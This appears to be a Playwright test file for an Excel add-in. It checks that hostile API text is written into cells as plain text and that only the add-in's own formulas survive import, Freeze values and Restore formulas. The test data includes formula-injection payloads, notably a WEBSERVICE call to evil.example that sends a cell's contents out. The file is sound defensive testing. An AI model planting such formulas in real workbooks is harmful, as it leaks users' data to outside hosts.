// Formula injection in the stand-in (taskpane/excel/safe-values.ts): with the sandbox's hostile
// mode (formula-like names, titles, section text, URLs, dates and numbers), every writer of the
// pane — each dataset's import, the company and peer sheets, Freeze values, Restore formulas —
// leaves text as the exact text and writes no formula it did not build. The stand-in turns =, + and
// - strings into formulas unless the cell is Text (STANDIN.md "Range.values and text"), so a writer
// that forgets the policy fails here.
import type { Page } from "playwright-core";
import { HOSTILE_TEXTS, HOSTILE_URLS } from "../../sandbox/lib/hostile";
import { IMPORT_DATASETS } from "../../taskpane/state/datasets";
import { BUILDER_POLICY, checkFormula } from "../../taskpane/excel/formula-check";
import { nav, openConnectedPane, tid, type CellInfo, type standIn } from "./cockpit-helpers";
import { startHarness, type Harness } from "./harness";

let h: Harness;
let page: Page;
let excel: ReturnType<typeof standIn>;

/**
 * What the pane may write as a formula: the sheet builders' policy (KAISHA calls and the pure
 * functions of the derived rows) and HYPERLINKs (checked below).
 */
const ADDIN_FORMULAS = {
  functions: new Set([...BUILDER_POLICY.functions, "HYPERLINK"]),
  requireKaisha: false,
};

/** Every formula in `cells` that the add-in would not have built, with its place. */
function foreignFormulas(cells: CellInfo[][], where: string): string[] {
  return cells.flatMap((row, r) =>
    row.flatMap((c, col) => {
      if (c.formula === undefined) return [];
      const f = c.formula;
      const hyperlink = /^=HYPERLINK\(/i.test(f);
      const ok =
        checkFormula(f, ADDIN_FORMULAS).ok &&
        (!hyperlink || /^=HYPERLINK\("https?:\/\//i.test(f)) &&
        // A HYPERLINK is the whole formula: nothing before or after it.
        (!hyperlink || /^=HYPERLINK\("(?:[^"]|"")*","(?:[^"]|"")*"\)$/.test(f));
      return ok ? [] : [`${where} r${r} c${col}: ${f}`];
    }),
  );
}

/** Text values of the cells. */
function texts(cells: CellInfo[][]): Set<string> {
  return new Set(cells.flat().flatMap((c) => (typeof c.value === "string" ? [c.value] : [])));
}

/** Cells showing an error the stand-in gives a formula it cannot calculate (a text gone formula). */
function nameErrors(cells: CellInfo[][]): string[] {
  return cells.flat().flatMap((c) => (c.value === "#NAME?" ? [`${c.formula ?? ""}`] : []));
}

async function usedCells(sheet: string): Promise<CellInfo[][]> {
  const info = (await excel.sheets()).find((s) => s.name === sheet);
  return info?.used ? excel.read(sheet, info.used) : [];
}

async function tablesOf(sheet: string): Promise<{ name: string; address: string }[]> {
  return (await excel.sheets()).find((s) => s.name === sheet)?.tables ?? [];
}

/** Moves an A1 range's bottom down by `rows` (the caption under an imported table). */
function extend(address: string, rows: number): string {
  return address.replace(/(\d+)$/, (n) => String(Number(n) + rows));
}

beforeAll(async () => {
  h = await startHarness({ sandbox: { hostile: true } });
  ({ page, excel } = await openConnectedPane(h, "en"));
});

afterAll(async () => {
  await h?.close();
});

describe("hostile API text through every writer", () => {
  const seen = new Set<string>();
  const formulasSeen: string[] = [];

  test.each(IMPORT_DATASETS.map((d, i) => [d, i] as const))(
    "import %s: every hostile text lands as itself, only http(s) links are formulas",
    async (dataset, i) => {
      await nav(page, "import");
      await page.selectOption(tid("import-dataset-select"), dataset);
      for (const name of ["code", "security_code"]) {
        const field = page.locator(tid(`import-param-${name}`));
        if ((await field.count()) > 0) await field.fill("7203");
      }
      // Prices carry no free text: one quarter keeps the import short.
      if (dataset === "prices") {
        await page.fill(tid("import-param-from"), "2024-01-04");
        await page.fill(tid("import-param-to"), "2024-03-29");
      }
      // Each table on a sheet of its own, at A1 (Excel.run through the stand-in, as the pane does).
      const sheet = `Import_${i}`;
      await page.evaluate(async (name) => {
        await Excel.run(async (context) => {
          context.workbook.worksheets.add(name);
          await context.sync();
        });
      }, sheet);
      await excel.select(sheet, "A1");
      await page.click(tid("import-run"));
      await page.waitForFunction(
        ([name, id]) => {
          const w = window as unknown as {
            __excelStandIn: { sheets(): { name: string; tables: unknown[] }[] };
          };
          const bar = document.querySelector(`[data-testid="${id}"]`);
          const tables = w.__excelStandIn.sheets().find((s) => s.name === name)?.tables ?? [];
          return tables.length > 0 || bar?.getAttribute("data-intent") === "error";
        },
        [sheet, "import-message"] as const,
        { timeout: 100_000 },
      );
      expect([
        await page.getAttribute(tid("import-message"), "data-intent"),
        await page.textContent(tid("import-message")),
      ]).toEqual(["success", expect.any(String)]);
      const table = (await tablesOf(sheet))[0];
      const cells = await excel.read(sheet, extend(table?.address ?? "A1", 2));
      expect(foreignFormulas(cells, dataset)).toEqual([]);
      expect(nameErrors(cells)).toEqual([]);
      for (const t of texts(cells)) seen.add(t);
      for (const c of cells.flat()) if (c.formula) formulasSeen.push(c.formula);
    },
  );

  test("imports: every hostile text and non-web URL was written, as the exact string", () => {
    // The whole round robin of sandbox/lib/hostile.ts reached the workbook as text.
    expect(HOSTILE_TEXTS.filter((t) => !seen.has(t))).toEqual([]);
    expect(HOSTILE_URLS.filter((u) => !/^https?:/.test(u) && !seen.has(u))).toEqual([]);
    // The web URL with a quote became one HYPERLINK, its quotes doubled.
    expect(formulasSeen).toContain(
      '=HYPERLINK("https://evil.example/a""&WEBSERVICE(""https://evil.example/"")&""","PDF")',
    );
  });

  test("company and peer sheets: only the builders' formulas, text as text", async () => {
    await nav(page, "company");
    await page.fill(tid("company-sheet-code"), "7203");
    await page.click(tid("company-sheet-build"));
    await page.waitForSelector(`${tid("company-sheet-message")}[data-intent="success"]`);
    await excel.idle();
    const company = await usedCells("Kaisha_7203");
    expect(foreignFormulas(company, "Kaisha_7203")).toEqual([]);
    expect(nameErrors(company)).toEqual([]);
    await page.click(tid("company-peers-build"));
    await page.waitForFunction(() =>
      document
        .querySelector('[data-testid="company-sheet-message"]')
        ?.textContent?.includes("Kaisha_peers_7203"),
    );
    await excel.idle();
    const peers = await usedCells("Kaisha_peers_7203");
    expect(foreignFormulas(peers, "Kaisha_peers_7203")).toEqual([]);
    expect(nameErrors(peers)).toEqual([]);
    // The peers answer's hostile source label is in the caption, as text.
    expect([...texts(peers)].some((t) => HOSTILE_TEXTS.some((x) => t.endsWith(x)))).toBe(true);
  });

  test("Freeze values writes each function's text back as the same text; Restore brings the formulas back", async () => {
    const sheet = "Kaisha_peers_7203";
    const before = await usedCells(sheet);
    const hostileBefore = [...texts(before)].filter((t) => HOSTILE_TEXTS.includes(t));
    // The PEERS spill carries hostile names and reasons: the test means something.
    expect(hostileBefore.length).toBeGreaterThan(0);
    await nav(page, "refresh");
    await page.selectOption(tid("freeze-scope"), "sheet");
    await page.click(tid("freeze-values"));
    await page.waitForSelector(`${tid("freeze-summary")}[data-count]`);
    // Every KAISHA formula of the sheet was frozen (none skipped), as the summary says.
    expect([
      await page.getAttribute(tid("freeze-summary"), "data-skipped"),
      await page.textContent(tid("freeze-summary")),
    ]).toEqual(["0", expect.any(String)]);
    // Cells still formulas (IFERROR over frozen cells) recalculate: wait, as Excel would.
    await excel.idle();
    const after = await usedCells(sheet);
    // Same values cell by cell; a frozen cell holds no formula at all.
    expect(after.map((r) => r.map((c) => c.value))).toEqual(
      before.map((r) => r.map((c) => c.value)),
    );
    const frozenFormulas = after.flat().filter((c) => c.formula !== undefined);
    expect(foreignFormulas(after, sheet)).toEqual([]);
    expect(frozenFormulas.length).toBeLessThan(before.flat().filter((c) => c.formula).length);
    await page.click(tid("restore-formulas"));
    await page.waitForFunction(
      () =>
        document.querySelector('[data-testid="freeze-summary"]')?.getAttribute("data-refused") ===
        "0",
    );
    await excel.idle();
    const restored = await usedCells(sheet);
    expect(restored.flat().filter((c) => c.formula).length).toBe(
      before.flat().filter((c) => c.formula).length,
    );
    expect(foreignFormulas(restored, sheet)).toEqual([]);
  });

  test("Restore formulas refuses a crafted provenance row and changes nothing it names", async () => {
    const sheet = "Kaisha_peers_7203";
    const a1 = (await excel.read(sheet, "A1"))[0]?.[0]?.value;
    // Someone edits KaishaProvenance: a smuggled WEBSERVICE, and a range that would clear the sheet.
    await page.evaluate(async () => {
      await Excel.run(async (context) => {
        const prov = context.workbook.worksheets.getItem("KaishaProvenance");
        const used = prov.getUsedRange();
        used.load("rowCount");
        await context.sync();
        const rows = prov.getRange(`A${used.rowCount + 1}:G${used.rowCount + 2}`);
        rows.numberFormat = [
          ["@", "@", "@", "General", "@", "@", "@"],
          ["@", "@", "@", "General", "@", "@", "@"],
        ];
        rows.values = [
          [
            "Kaisha_peers_7203!A1",
            '=KAISHA.USAGE()&WEBSERVICE("https://evil.example/?"&B2)',
            "A1",
            1,
            "x",
            "frozen",
            "",
          ],
          ["Kaisha_peers_7203!A1", "=KAISHA.USAGE()", "A1:Z200", 1, "x", "frozen", ""],
        ];
        await context.sync();
      });
    });
    await nav(page, "refresh");
    await page.click(tid("restore-formulas"));
    await page.waitForSelector(`${tid("freeze-summary")}[data-intent="warning"]`);
    const text = (await page.textContent(tid("freeze-summary"))) ?? "";
    expect(text).toContain("calls WEBSERVICE");
    expect(text).toContain("values range A1:Z200");
    expect([await page.getAttribute(tid("freeze-summary"), "data-refused"), text]).toEqual([
      "2",
      text,
    ]);
    const cell = (await excel.read(sheet, "A1"))[0]?.[0];
    expect(cell?.formula).toBeUndefined();
    expect(cell?.value).toBe(a1);
    expect(foreignFormulas(await usedCells(sheet), sheet)).toEqual([]);
  });
});
